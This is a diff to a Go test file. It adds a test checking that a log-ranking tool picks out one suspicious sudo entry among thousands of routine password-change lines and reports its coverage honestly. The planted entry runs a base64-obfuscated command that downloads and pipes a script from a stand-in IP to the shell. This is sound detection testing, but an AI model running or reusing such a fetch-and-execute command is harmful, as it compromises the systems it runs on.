@@ -337,3 +337,43 @@ func TestCatalogueIsGrounded(t *testing.T) {
 		t.Errorf("%d statements", len(seen))
 	}
 }
+
+// TestFlood: a flood of lines that all show a sign is not taken apart line by
+// line, and does not hide the one that is worse. What was not taken apart says so,
+// and claims nothing of its own that only other lines show.
+func TestFlood(t *testing.T) {
+	var b strings.Builder
+	const n = 6000
+	for i := range n {
+		if i == n-5 { // at the end, when the bound for what comes first is long spent
+			b.WriteString(`Mar  4 11:59:00 web3 sudo:   user7 : TTY=pts/0 ; PWD=/home/user7 ; USER=root ; COMMAND=/bin/bash -c "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA== | base64 -d | sh"` + "\n")
+			continue
+		}
+		fmt.Fprintf(&b, "Mar  4 %02d:%02d:%02d web%d sudo:   user%d : TTY=pts/0 ; PWD=/home/user%d ; USER=root ; COMMAND=/usr/bin/passwd user%d\n", 9+i/3600, i/60%60, i%60, i%9, i%40, i%40, i%977)
+	}
+	out := rank(t, ranklogs.Input{Files: []string{write(t, "flood.log", b.String())}, Top: n})
+	if out.Lines[0].Line != n-4 {
+		t.Errorf("the first line is %d: %q, want %d", out.Lines[0].Line, out.Lines[0].Text, n-4)
+	}
+	if why := out.Coverage.Parts[0].Why; !strings.Contains(why, "4,000 taken apart one by one") {
+		t.Errorf("the coverage says %q", why)
+	}
+	for i, l := range out.Lines {
+		for _, s := range l.Reasons {
+			if s.Support != casemate.Supported {
+				t.Fatalf("rank %d: %q is %s: %v", i+1, s.Text, s.Support, s.Problems)
+			}
+		}
+	}
+	borrowed := 0
+	for _, l := range out.Lines {
+		for _, s := range l.Reasons {
+			if strings.HasPrefix(s.Text, "It was not taken apart itself") {
+				borrowed++
+			}
+		}
+	}
+	if borrowed == 0 || borrowed > n-4000 {
+		t.Errorf("%d lines say that they were not taken apart, want 1 to %d", borrowed, n-4000)
+	}
+}
